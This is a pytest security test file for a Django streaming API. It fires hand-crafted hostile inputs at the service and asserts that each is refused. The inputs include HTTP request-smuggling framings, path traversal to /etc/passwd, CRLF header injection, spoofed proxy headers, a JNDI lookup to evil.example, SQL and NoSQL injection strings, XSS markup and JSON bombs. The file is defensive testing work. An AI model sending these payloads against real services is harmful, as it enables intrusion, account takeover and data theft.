"""Attacks made by hand, byte by byte: each is refused with a 4xx or does no harm, and the service goes on.

What stands in front (API Gateway) drops many of these itself; nothing here relies on it.
"""

import json
import logging
import re
import socket
import uuid
from collections.abc import Iterator
from contextlib import suppress
from urllib.parse import quote, urlsplit

import httpx
import pytest
from django.core.wsgi import get_wsgi_application
from pytest_django.fixtures import Settings

from streams.models import UserStreams
from streams.wsgi import bounded
from streams_project.logs import JSONFormatter
from tests.http.test_bad_input import raw_request, refused
from tests.viewer import Viewer
from tests.wsgi_servers import serving

VICTIM = f"victim-{uuid.uuid4()}"
"""The user that attacks try to start a stream for, and whom nobody starts one for."""
EVIL = "evil.example"
SMUGGLED = (
    f"PUT /users/{VICTIM}/streams/tv HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    'Content-Length: 18\r\n\r\n{"streamId":"456"}'
).encode()
BODY = b'{"streamId":"456"}'


@pytest.fixture(autouse=True)
def unharmed(
    api: object, viewer: Viewer, caplog: pytest.LogCaptureFixture
) -> Iterator[None]:
    """After each attack the service answers, the victim has nothing, and nothing failed or broke a line of the log."""
    yield
    assert viewer.api.get("/readyz").status_code == 200
    assert UserStreams.count(VICTIM) == 0
    assert [
        record for record in caplog.records if record.levelno >= logging.ERROR
    ] == []
    assert [
        record
        for record in caplog.records
        if re.search(r"[\x00-\x1f\x7f]", record.getMessage())
    ] == []


def answers(url: str, request: bytes) -> tuple[list[int], bytes]:
    """The statuses of everything answered on one connection, and all of it."""
    host = urlsplit(url)
    with socket.create_connection(
        (host.hostname or "", host.port or 0), timeout=10
    ) as connection:
        answer = bytearray()
        with suppress(
            OSError
        ):  # the server may hang up on what it does not read, and may have answered before
            connection.sendall(request)
            connection.shutdown(socket.SHUT_WR)
        with suppress(ConnectionResetError):
            while part := connection.recv(65536):
                answer += part
    return [
        int(status)
        for status in re.findall(rb"^HTTP/1\.[01] (\d{3}) ", answer, re.MULTILINE)
    ], bytes(answer)


def post(viewer: Viewer, *headers: bytes, body: bytes = BODY, url: str = "") -> bytes:
    """A start with headers as they are given: none but `Host` and the type comes by itself."""
    host = viewer.api.base_url.netloc
    lines = [
        b"POST %s HTTP/1.1" % (url or viewer.url).encode(),
        b"Host: " + host,
        b"Content-Type: application/json",
    ]
    return b"\r\n".join([*lines, *headers]) + b"\r\n\r\n" + body


CHUNKED = b"%x\r\n%s\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED)
FRAMINGS: dict[str, tuple[list[bytes], bytes]] = {
    "two lengths, the short one first": (
        [b"Content-Length: 18", b"Content-Length: 400"],
        BODY + SMUGGLED,
    ),
    "two lengths, the long one first": (
        [b"Content-Length: 400", b"Content-Length: 18"],
        BODY + SMUGGLED,
    ),
    "a list of lengths": ([b"Content-Length: 18, 400"], BODY + SMUGGLED),
    "a length and chunks": (
        [b"Content-Length: 4", b"Transfer-Encoding: chunked"],
        CHUNKED,
    ),
    "chunks and a length": (
        [b"Transfer-Encoding: chunked", b"Content-Length: 4"],
        CHUNKED,
    ),
    "chunks that end early": (
        [b"Content-Length: 5", b"Transfer-Encoding: chunked"],
        b"0\r\n\r\n" + SMUGGLED,
    ),
    "chunks alone": ([b"Transfer-Encoding: chunked"], CHUNKED),
    "a coding that is none": (
        [b"Transfer-Encoding: xchunked", b"Content-Length: 4"],
        CHUNKED,
    ),
    "a blank before the colon": (
        [b"Transfer-Encoding : chunked", b"Content-Length: 4"],
        CHUNKED,
    ),
    "a vertical tab before the coding": (
        [b"Transfer-Encoding:\x0bchunked", b"Content-Length: 4"],
        CHUNKED,
    ),
    "a folded coding": (
        [b"Transfer-Encoding:\r\n chunked", b"Content-Length: 4"],
        CHUNKED,
    ),
    "a folded length": ([b"Content-Length:\r\n 18"], BODY + SMUGGLED),
    "a negative length": ([b"Content-Length: -1"], BODY + SMUGGLED),
    "a length with a sign": ([b"Content-Length: +18"], BODY + SMUGGLED),
    "a hexadecimal length": ([b"Content-Length: 0x12"], BODY + SMUGGLED),
    "a length with an underscore": ([b"Content-Length: 1_8"], BODY + SMUGGLED),
    "a length beyond all": ([b"Content-Length: " + b"9" * 30], BODY + SMUGGLED),
    "a length of too many digits": (
        [b"Content-Length: " + b"9" * 5000],
        BODY + SMUGGLED,
    ),
    "no length": ([], BODY + SMUGGLED),
    "a length of nothing": ([b"Content-Length: 0"], SMUGGLED),
    "a bare line feed": ([b"X: 1\nContent-Length: 18"], BODY + SMUGGLED),
    "a bare carriage return": ([b"X: 1\rContent-Length: 18"], BODY + SMUGGLED),
    "a NUL": ([b"X: \x001", b"Content-Length: 18"], BODY + SMUGGLED),
    "a header without a name": ([b": 1", b"Content-Length: 18"], BODY + SMUGGLED),
    "a line that is no header": ([b"nothing", b"Content-Length: 18"], BODY + SMUGGLED),
    "an underscore for the hyphen": (
        [b"Content_Length: 400", b"Content-Length: 18"],
        BODY + SMUGGLED,
    ),
    "an upgrade": (
        [
            b"Connection: Upgrade, HTTP2-Settings",
            b"Upgrade: h2c",
            b"Content-Length: 18",
        ],
        BODY + SMUGGLED,
    ),
    "a connection kept": (
        [b"Connection: keep-alive", b"Content-Length: 18"],
        BODY + SMUGGLED,
    ),
}


@pytest.mark.parametrize(("headers", "body"), FRAMINGS.values(), ids=FRAMINGS)
def test_a_request_within_a_request_is_never_carried_out(
    viewer: Viewer, server_url: str, headers: list[bytes], body: bytes
) -> None:
    statuses, _ = answers(server_url, post(viewer, *headers, body=body))
    assert len(statuses) == 1
    assert statuses[0] in (201, 400, 413)
    assert len(viewer.list()["streams"]) == (statuses[0] == 201)


LARGE = {
    "one header of 70 KB": ([b"X: " + b"x" * 70_000], {400, 431}),
    "a name of 70 KB": ([b"x" * 70_000 + b": 1"], {400, 431}),
    "a thousand headers": ([b"X-%d: 1" % number for number in range(1000)], {400, 431}),
    "one header a thousand times": ([b"X: 1"] * 1000, {400, 431}),
    "60 KB of cookies": ([b"Cookie: " + b"a=b;" * 15_000], {400, 431}),
    "60 KB of media types": ([b"Accept: " + b"a/b;q=0.1," * 6000], {400, 431}),
    "an API key of 60 KB": ([b"X-API-Key: " + b"k" * 60_000], {400, 431}),
    "an idempotency key of 60 KB": ([b"Idempotency-Key: " + b"k" * 60_000], {400, 431}),
}


@pytest.mark.parametrize(("headers", "refusals"), LARGE.values(), ids=LARGE)
def test_huge_headers_are_refused_or_ignored(
    viewer: Viewer, server_url: str, headers: list[bytes], refusals: set[int]
) -> None:
    statuses, _ = answers(server_url, post(viewer, *headers, b"Content-Length: 18"))
    active = viewer.list()["active"]
    assert (statuses == [201] and active == 1) or (
        set(statuses) <= refusals and active == 0
    )


@pytest.mark.parametrize(
    "line",
    [
        b"",
        b"GET",
        b"\x16\x03\x01\x02",
        b"PRI * HTTP/2.0",
        b"GET / HTTP/9.9",
        b"\x00" * 999,
    ],
)
def test_what_is_no_request_gets_no_answer_of_the_service(
    server_url: str, line: bytes
) -> None:
    statuses, answer = answers(server_url, line + b"\r\n\r\n" + SMUGGLED)
    assert statuses == []
    assert b"Traceback" not in answer


# `{victim}` is a user that would be reached if the path were tidied up, decoded twice or cut.
PATHS: dict[str, tuple[str, int]] = {
    "dot segments": ("/users/x/../{victim}/streams/tv", 404),
    "encoded dot segments": ("/users/x/%2e%2e/{victim}/streams/tv", 404),
    "dot segments encoded twice": ("/users/%252e%252e/{victim}/streams/tv", 404),
    "overlong dots": ("/users/%C0%AE%C0%AE/{victim}/streams/tv", 404),
    "an overlong slash": ("/users/{victim}%C0%AFstreams%C0%AFtv", 400),
    "fullwidth dots": ("/users/%EF%BC%8E%EF%BC%8E/streams/tv", 400),
    "backslashes": ("/users/x\\..\\{victim}/streams/tv", 400),
    "a user named ..": ("/users/../streams/tv", 400),
    "a user named .": ("/users/./streams/tv", 400),
    "a stream named ..": ("/users/{victim}/streams/..", 400),
    "a stream named .": ("/users/{victim}/streams/%2e", 400),
    "a path parameter of the user": ("/users/{victim}%3Fjsessionid=1/streams/tv", 400),
    "a path parameter of the stream": ("/users/{victim}/streams/tv;jsessionid=1", 400),
    "a path parameter of a word": ("/users/{victim}/streams;jsessionid=1/tv", 404),
    "a fragment": ("/users/{victim}/streams/tv#x", 400),
    "a NUL to cut at": ("/users/{victim}%00x/streams/tv", 400),
    "a newline to cut at": ("/users/{victim}%0a/streams/tv", 400),
    "two slashes inside": ("/users//{victim}/streams/tv", 404),
    "no slash in front": ("users/{victim}/streams/tv", 404),
    "another case": ("/USERS/{victim}/streams/tv", 404),
    "a whole URL": ("http://localhost/users/{victim}/streams/tv", 404),
    "a whole URL of another host": (
        "http://evil.example/users/{victim}/streams/tv",
        404,
    ),
    "an authority": ("evil.example:443", 404),
    "an asterisk": ("*", 404),
    "an expression language": ("/users/{victim}/streams/${{7*7}}", 400),
    "many slashes": ("/users" + "/streams/" * 5000, 400),
    "a line of 70 KB": ("/users/" + "x" * 70_000 + "/streams/tv", 414),
}


@pytest.mark.parametrize(("path", "status"), PATHS.values(), ids=PATHS)
def test_a_path_reaches_nobody_by_a_trick(
    server_url: str, path: str, status: int
) -> None:
    line = f"PUT {path.format(victim=VICTIM)} HTTP/1.1\r\nHost: localhost\r\n".encode()
    head = b"Content-Type: application/json\r\nContent-Length: 18\r\n\r\n"
    statuses, answer = answers(server_url, line + head + BODY)
    assert statuses == [status]
    assert status == 414 or b"application/problem+json" in answer


@pytest.mark.parametrize(
    "path",
    [
        "../../manage.py",
        "%2e%2e/%2e%2e/manage.py",
        "..%5c..%5cmanage.py",
        "%2fetc/passwd",
        "/etc/passwd",
        "%00",
        "%ff",
        "x" * 500,
        "",
        "rest_framework",
        "rest_framework/../../settings.py",
    ],
    ids=lambda path: path[:40],
)
def test_no_other_file_is_served_as_a_static_one(server_url: str, path: str) -> None:
    refused(raw_request(server_url, "GET", f"/static/{path}"), 404, "not-found")


BOMBS: dict[str, bytes] = {
    "deep": b'{"streamId":' + b"[" * 8000 + b"]" * 8000 + b"}",
    "deep objects": b'{"a":' * 2500 + b"1" + b"}" * 2500,
    "wide": b"{" + b",".join(b'"%d":1' % number for number in range(1800)) + b"}",
    "a list of empty ids": b'{"streamId":"4","replace":['
    + b",".join([b'""'] * 5000)
    + b"]}",
    "a list of objects": b'{"streamId":"4","replace":['
    + b",".join([b"{}"] * 5000)
    + b"]}",
    "a number beyond all": b'{"streamId":1e999}',
    "a number of many digits": b'{"streamId":' + b"9" * 16_000 + b"}",
    "a fraction of many digits": b'{"streamId":0.' + b"9" * 16_000 + b"}",
    "a name twice": b'{"streamId":"456","streamId":"457"}',
    "a name twice, once escaped": b'{"streamId":"456","\\u0073treamId":"457"}',
    "a name twice, inside": b'{"streamId":"456","title":{"a":1,"a":2}}',
    "a name with half a surrogate pair": b'{"streamId":"456","\\ud800":1}',
    "a byte order mark": b'\xef\xbb\xbf{"streamId":"456"}',
    "a comment": b'{"streamId":"456"/**/}',
    "a comma at the end": b'{"streamId":"456",}',
    "single quotes": b"{'streamId':'456'}",
    "Infinity": b'{"streamId":"456","title":-Infinity}',
    "a prefix against hijacking": b')]}\',\n{"streamId":"456"}',
}


@pytest.mark.parametrize("body", BOMBS.values(), ids=BOMBS)
def test_a_bomb_of_json_is_refused_in_few_words(viewer: Viewer, body: bytes) -> None:
    response = viewer.api.post(
        viewer.url, content=body, headers={"Content-Type": "application/json"}
    )
    refused(response, 400, "invalid-request")
    assert len(response.content) < 4096
    assert UserStreams.count(viewer.user_id) == 0


@pytest.mark.parametrize(
    "limit",
    [b"1e400", b"9" * 4000, b"-0.5", b"3.5", b"1e-1", b"-1", b"NaN", b'"\\ud800"'],
)
def test_a_number_that_is_no_limit_is_refused(viewer: Viewer, limit: bytes) -> None:
    for field in (b'"limit":%s', b'"limit":3,"whenFull":%s'):
        body = b"{" + field % limit + b"}"
        url = f"/users/{viewer.user_id}/limit"
        response = viewer.api.put(
            url, content=body, headers={"Content-Type": "application/json"}
        )
        refused(response, 400, "invalid-request")
    assert UserStreams.count(viewer.user_id) == 0


CONFUSABLES = {
    "Cyrillic a": "\u0430na",
    "Greek omicron": "b\u03bfb",
    "fullwidth a": "\uff41na",
    "the Kelvin sign": "\u212aay",
    "dotless i": "\u0131an",
    "Arabic digits": "\u0661\u0662",
    "a combining accent": "ana\u0301",
    "a zero-width joiner": "a\u200dna",
    "a soft hyphen": "a\u00adna",
    "written from right to left": "\u202eana",
    "a non-breaking blank": "a\u00a0na",
    "a line separator": "a\u2028na",
    "mathematical letters": "\U0001d41ana",
    "a fullwidth slash": "a\uff0fb",
}


@pytest.mark.parametrize("id", CONFUSABLES.values(), ids=CONFUSABLES)
def test_an_id_that_only_looks_like_another_is_refused(
    viewer: Viewer, server_url: str, id: str
) -> None:
    refused(
        raw_request(server_url, "PUT", f"/users/{quote(id)}/streams/tv", BODY),
        400,
        "invalid-request",
        "userId",
    )
    refused(
        raw_request(server_url, "PUT", f"{viewer.url}/{quote(id)}", BODY),
        400,
        "invalid-request",
        "id",
    )
    refused(viewer.start(deviceId=id), 400, "invalid-request", "deviceId")
    refused(viewer.start(replace=["tv", id]), 400, "invalid-request", "replace")
    statuses, _ = answers(
        server_url,
        post(viewer, b"Content-Length: 18", b"Idempotency-Key: " + id.encode()),
    )
    assert statuses == [400]
    assert UserStreams.count(viewer.user_id) == 0


# Made of the characters an id may have: words, placeholders and paths of DynamoDB's expressions, the row's own names.
EXPRESSIONS = [
    "leases",
    "leases.tv",
    "ended",
    "epochs",
    "version",
    "limit",
    "ttl",
    "user_id",
    "leases.tv.expires_at",
    ":lease",
    ":limit",
    ":now",
    ":0",
    ":epoch",
    "size",
    "SET",
    "REMOVE",
    "OR",
    "attribute_exists",
    "a.b.c",
    "...",
    "-",
    "|",
    "||",
    "a|b",
    "~",
    "@",
    "--",
    "__proto__",
    "constructor",
    "null",
    "true",
    "0",
    "-1",
]


@pytest.mark.parametrize("id", EXPRESSIONS)
def test_an_id_is_never_read_as_an_expression(viewer: Viewer, id: str) -> None:
    viewer.started(deviceId="other")
    token = viewer.started(deviceId=id, replace=["x"])["token"]
    assert {stream["id"] for stream in viewer.list()["streams"]} == {"other", id}
    assert viewer.heartbeat(id, token).status_code == 200
    assert viewer.started(deviceId=f"{id}x", replace=[id])["id"] == f"{id}x"
    assert viewer.end(f"{id}x").status_code == 204
    assert [stream["id"] for stream in viewer.list()["streams"]] == ["other"]


@pytest.mark.engine
@pytest.mark.parametrize(
    "id", ["S", "N", "B", "SS", "NS", "BS", "M", "L", "NULL", "BOOL"]
)
def test_a_stream_named_like_a_type_of_dynamodb_is_a_stream_like_others(
    viewer: Viewer, id: str
) -> None:
    token = viewer.started(deviceId=id)["token"]
    assert viewer.heartbeat(id, token).status_code == 200
    viewer.started(deviceId="tv", replace=[id])
    ended = viewer.heartbeat(id, token)
    assert (ended.status_code, ended.json()["reason"], ended.json()["endedBy"]) == (
        410,
        "replaced",
        "tv",
    )
    viewer.started(deviceId=id, replace=["tv"])
    assert [stream["id"] for stream in viewer.list()["streams"]] == [id]
    assert viewer.end(id).status_code == 204
    assert viewer.list()["active"] == 0


def test_a_user_named_like_an_expression_is_a_user_like_others(viewer: Viewer) -> None:
    for name in EXPRESSIONS[:13]:
        user = Viewer(viewer.api, f"{name}:{viewer.user_id}")
        user.started(deviceId="tv")
        assert [stream["id"] for stream in user.list()["streams"]] == ["tv"]
    assert viewer.list()["active"] == 0


@pytest.mark.parametrize(
    "text",
    [
        '") OR attribute_exists(leases) --',
        "#n0",
        ":lease",
        "<id>",
        "<replaced0>",
        '{"S":"x"}',
        '{"$ne":null}',
        "${jndi:ldap://evil.example}",
        "{{7*7}}",
        "%s%n%(name)s",
        "<script>alert(1)</script>",
        "'; DROP TABLE x; --",
        "../../etc/passwd",
        "=1+1",
        "é",
    ],
)
def test_text_is_kept_as_it_came(viewer: Viewer, text: str) -> None:
    fields = {"deviceName": text, "title": text}
    started = viewer.started(text, deviceId="tv", **fields)
    kept = viewer.list()["streams"][0]
    assert {name: started[name] for name in ("streamId", *fields)} == {
        "streamId": text,
        **fields,
    }
    assert {name: kept[name] for name in ("streamId", *fields)} == {
        "streamId": text,
        **fields,
    }


def test_markup_in_text_is_no_markup_on_a_page(viewer: Viewer) -> None:
    viewer.started(
        "<script>alert(1)</script>",
        deviceId="tv",
        title="</pre><img src=x onerror=alert(1)>",
    )
    page = viewer.api.get(viewer.url, headers={"Accept": "text/html"})
    assert page.status_code == 200
    assert "<script>alert" not in page.text
    assert "<img src=x" not in page.text


@pytest.mark.parametrize(
    "key",
    [
        b"a\r\n Set-Cookie: evil=1",
        b"a\r\n\tX-Evil: 1",
        b"a%0d%0aX-Evil:1",
        b"a\nX-Evil: 1\n",
        b"a\rX-Evil: 1",
        b"a\x00b",
        b'a"b',
        b"a;b",
        b"a,b",
        b'"',
        b"..",
        b"\xe5\x98\x8a\xe5\x98\x8dX-Evil: 1",
        b"=?utf-8?q?=0d=0aX-Evil:1?=",
    ],
)
def test_an_idempotency_key_adds_no_header_to_the_answer(
    viewer: Viewer, server_url: str, key: bytes
) -> None:
    statuses, answer = answers(
        server_url, post(viewer, b"Idempotency-Key: " + key, b"Content-Length: 18")
    )
    head = answer.partition(b"\r\n\r\n")[0].lower()
    assert b"x-evil" not in head
    assert b"set-cookie" not in head
    assert statuses[0] in (201, 400)
    assert viewer.list()["active"] == (statuses[0] == 201)


def test_two_idempotency_keys_are_none(viewer: Viewer, server_url: str) -> None:
    statuses, _ = answers(
        server_url,
        post(
            viewer, b"Idempotency-Key: a", b"Idempotency-Key: b", b"Content-Length: 18"
        ),
    )
    assert statuses == [400]
    assert UserStreams.count(viewer.user_id) == 0


SPOOFED = {
    "X-Forwarded-Host": EVIL,
    "X-Forwarded-Server": EVIL,
    "X-Forwarded-For": f"127.0.0.1, {EVIL}",
    "X-Forwarded-Proto": "https",
    "X-Forwarded-Port": "1",
    "X-Forwarded-Prefix": f"//{EVIL}",
    "X-Script-Name": f"//{EVIL}",
    "Script-Name": f"//{EVIL}",
    "Forwarded": f"for=127.0.0.1;host={EVIL};proto=https",
    "X-Host": EVIL,
    "X-Original-URL": f"/users/{VICTIM}/streams",
    "X-Rewrite-URL": f"/users/{VICTIM}/streams",
    "X-Original-Method": "DELETE",
    "X-Forwarded-User": VICTIM,
    "X-Remote-User": VICTIM,
    "Remote-User": VICTIM,
    "X-Amzn-Oidc-Identity": VICTIM,
}


@pytest.mark.parametrize("accept", ["application/json", "text/html"])
@pytest.mark.parametrize(("header", "value"), SPOOFED.items(), ids=SPOOFED)
def test_a_header_of_a_proxy_that_is_not_there_changes_nothing(
    viewer: Viewer, header: str, value: str, accept: str
) -> None:
    answer = viewer.api.put(
        f"{viewer.url}/tv",
        json={"streamId": "456"},
        headers={header: value, "Accept": accept},
    )
    assert answer.status_code == 201
    assert answer.headers["Location"] == f"{viewer.url}/tv"
    assert EVIL not in answer.text
    assert viewer.list()["active"] == 1


@pytest.mark.parametrize(
    "host",
    [
        EVIL,
        "",
        "localhost, evil.example",
        "localhost\\@evil.example",
        "evil.example#localhost",
        "[::1",
        "127.0.0.1:x",
    ],
)
def test_another_host_is_refused(viewer: Viewer, server_url: str, host: str) -> None:
    statuses, answer = answers(
        server_url, f"GET {viewer.url} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    )
    assert statuses == [400]
    assert b'"Host"' in answer


def test_a_health_check_by_address_gets_its_answer_and_nothing_else_does(
    viewer: Viewer, server_url: str
) -> None:
    def status(path: str, *hosts: str) -> list[int]:
        head = "".join(f"Host: {host}\r\n" for host in hosts)
        return answers(server_url, f"GET {path} HTTP/1.1\r\n{head}\r\n".encode())[0]

    for hosts in (
        ["10.0.3.7"],
        ["10.0.3.7:8000"],
        [EVIL],
        [],
        ["localhost", "localhost"],
        ["localhost", EVIL],
    ):
        assert status("/healthz", *hosts) == status("/healthz/", *hosts) == [200]
    for hosts in (
        ["10.0.3.7"],
        [EVIL],
        ["localhost", "localhost"],
        ["localhost", EVIL],
    ):
        for path in (
            "/readyz",
            viewer.url,
            "/console",
            "/",
            "/static/streams/style.css",
            "/healthz//",
            "/healthz/x",
        ):
            assert status(path, *hosts) == [400]


@pytest.mark.parametrize(
    "host", ["LOCALHOST", "LocalHost:80", "localhost.", "127.0.0.1", "[::1]:8000"]
)
def test_a_host_may_be_written_in_capitals_and_with_a_port_or_without(
    server_url: str, host: str
) -> None:
    assert answers(
        server_url, f"GET /users/u/streams HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    )[0] == [200]


PLAYER = "https://watch.example.com"
TRACING = [
    "traceparent",
    "tracestate",
    "baggage",
    "sentry-trace",
    "x-request-id",
    "x-amzn-trace-id",
]


@pytest.fixture
def for_players(settings: Settings) -> Iterator[httpx.Client]:
    """The service as players of another origin call it."""
    settings.CORS_ALLOWED_ORIGINS = [PLAYER]
    settings.MIDDLEWARE = [
        "corsheaders.middleware.CorsMiddleware",
        *settings.MIDDLEWARE,
    ]
    with (
        serving(bounded(get_wsgi_application())) as url,
        httpx.Client(base_url=url, headers={"Origin": PLAYER}) as client,
    ):
        yield client


def test_tracing_headers_pass_the_preflight(for_players: httpx.Client) -> None:
    asked = {
        "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": ", ".join(TRACING),
    }
    answer = for_players.options("/users/u/streams", headers=asked)
    assert answer.status_code == 200
    allowed = answer.headers["Access-Control-Allow-Headers"].split(", ")
    assert {*TRACING, "authorization", "content-type", "idempotency-key"} <= set(
        allowed
    )


@pytest.mark.parametrize(
    ("method", "path", "headers", "status"),
    [
        ("GET", "/nothing", {}, 404),
        ("GET", "/" + "x" * 3000, {}, 400),
        ("GET", "/users/a%23b/streams", {}, 400),
        ("GET", "/users/u/streams", {"Host": EVIL}, 400),
        ("GET", "/users/u/streams", {"Accept": "image/png"}, 406),
        ("PATCH", "/users/u/streams", {}, 405),
        ("GET", "/users/u/streams/none", {}, 404),
        (
            "POST",
            "/users/u/streams",
            {"Content-Type": "application/json; charset=uu"},
            415,
        ),
        ("POST", "/users/u/streams", {"Content-Encoding": "gzip"}, 415),
    ],
)
def test_a_player_of_another_origin_can_read_every_refusal(
    for_players: httpx.Client,
    method: str,
    path: str,
    headers: dict[str, str],
    status: int,
) -> None:
    answer = for_players.request(
        method, path, content=BODY if method == "POST" else None, headers=headers
    )
    refused(answer, status, answer.json()["type"])
    assert answer.headers["Access-Control-Allow-Origin"] == PLAYER
    exposed = answer.headers["Access-Control-Expose-Headers"].lower().split(", ")
    assert {"expires", "location", "retry-after", "date"} <= set(exposed)
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


OVERRIDES = [
    "X-HTTP-Method-Override",
    "X-HTTP-Method",
    "X-Method-Override",
    "X-Method",
    "_method",
]


@pytest.mark.parametrize("header", OVERRIDES)
def test_no_header_makes_one_method_another(viewer: Viewer, header: str) -> None:
    viewer.started(deviceId="tv")
    refused(
        viewer.api.post(f"{viewer.url}/tv", json={}, headers={header: "DELETE"}),
        405,
        "method-not-allowed",
    )
    refused(
        viewer.api.post(f"{viewer.url}/tv?_method=DELETE", json={}),
        405,
        "method-not-allowed",
    )
    limit = viewer.api.get(f"/users/{viewer.user_id}/limit", headers={header: "DELETE"})
    assert (limit.status_code, limit.json()["limit"]) == (200, 3)
    assert viewer.list()["active"] == 1


@pytest.mark.parametrize(
    "method", ["TRACE", "TRACK", "CONNECT", "PROPFIND", "PATCH", "X" * 3000, "\x1b[31m"]
)
def test_a_method_that_nobody_takes_is_refused(
    server_url: str, user_id: str, method: str
) -> None:
    refused(
        raw_request(server_url, method, f"/users/{user_id}/streams/tv", BODY),
        405,
        "method-not-allowed",
    )
    assert UserStreams.count(user_id) == 0


@pytest.mark.parametrize("text", ["a\nb", "a\r\nb", "\x1b[2Ja", "a\u2028b", "a\x00b"])
def test_a_logged_record_is_one_line_whatever_it_says(text: str) -> None:
    record = logging.LogRecord("streams", logging.WARNING, "", 0, "%s", (text,), None)
    line = JSONFormatter().format(record)
    assert line.isascii()
    assert line.isprintable()
    assert json.loads(line)["message"] == text
